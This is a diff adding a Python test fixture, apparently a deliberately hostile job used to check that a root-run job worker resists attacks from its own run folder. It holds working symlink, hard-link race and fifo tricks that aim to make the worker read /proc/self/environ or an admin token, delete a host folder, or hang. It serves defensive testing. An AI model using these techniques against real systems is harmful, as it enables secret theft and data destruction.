@@ -1,0 +1,84 @@
+"""A hostile job that attacks the worker through its own run folder (contract §7 v3).
+
+The worker runs outside the sandbox, usually as root; everything here is something a rank may
+do to its own folder, aimed at making the worker read, upload or delete a host path. No torch
+import: it starts fast. BREAK says which attack; BREAK_TARGET a host path (the admin token, a
+canary folder) the rank cannot see itself but names in a link, for the worker to follow.
+
+- logs:        its stdout.log and stderr.log become links to BREAK_TARGET and /proc/self/environ,
+               then it fails (exit 3), so the worker also looks for an error to quote
+- tmp:         /job/tmp and a link in its TMPDIR point at BREAK_TARGET (a folder to delete)
+- checkpoints: each checkpoint name flips between a link to BREAK_TARGET and the real file
+               (the same inode, so a watcher that lists then opens by name is raced)
+- fifo:        its logs and events file become fifos, then it sleeps well past its time limit
+"""
+
+from __future__ import annotations
+
+import glob
+import os
+import sys
+import time
+
+ATTACK = os.environ["BREAK"]
+TARGET = os.environ.get("BREAK_TARGET", "/nonexistent")
+RUN = "/job"
+
+
+def own_logs() -> list[str]:
+    """This rank's stdout.log and stderr.log, once torchrun has made them."""
+    for _ in range(100):
+        found = sorted(glob.glob(f"{RUN}/logs/*/attempt_*/0/std*.log"))
+        if len(found) == 2:
+            return found
+        time.sleep(0.05)
+    raise SystemExit("no log files found")
+
+
+def swap(path: str, make) -> None:
+    os.unlink(path)
+    make(path)
+
+
+def logs() -> None:
+    stdout, stderr = sorted(own_logs(), reverse=True)  # stdout.log, stderr.log
+    print("before the swap", flush=True)
+    swap(stdout, lambda p: os.symlink(TARGET, p))
+    swap(stderr, lambda p: os.symlink("/proc/self/environ", p))
+    time.sleep(2)
+    sys.exit(3)
+
+
+def tmp() -> None:
+    os.symlink(TARGET, f"{RUN}/tmp")
+    os.symlink(TARGET, os.path.join(os.environ["TMPDIR"], "out"))
+    print("links made", flush=True)
+
+
+def checkpoints() -> None:
+    folder = os.environ["TORCHJOBS_CHECKPOINT_DIR"]
+    for n in range(1, 4):
+        real, name = f"{folder}/.real-{n}", f"{folder}/epoch-{n}.pt"
+        with open(real, "wb") as fh:
+            fh.write(f"real checkpoint {n}\n".encode() * 100)
+        os.link(real, name)
+        deadline = time.monotonic() + 2.0
+        while time.monotonic() < deadline:  # the name flips between a link out and the real file
+            os.symlink(TARGET, f"{folder}/.lnk")
+            os.replace(f"{folder}/.lnk", name)
+            os.link(real, f"{folder}/.hard")
+            os.replace(f"{folder}/.hard", name)
+    print("checkpoints raced", flush=True)
+
+
+def fifo() -> None:
+    for path in own_logs():
+        swap(path, os.mkfifo)
+    events = os.environ["TORCHJOBS_EVENTS"]
+    if os.path.exists(events):
+        os.unlink(events)
+    os.mkfifo(events)
+    time.sleep(600)
+
+
+{"logs": logs, "tmp": tmp, "checkpoints": checkpoints, "fifo": fifo}[ATTACK]()
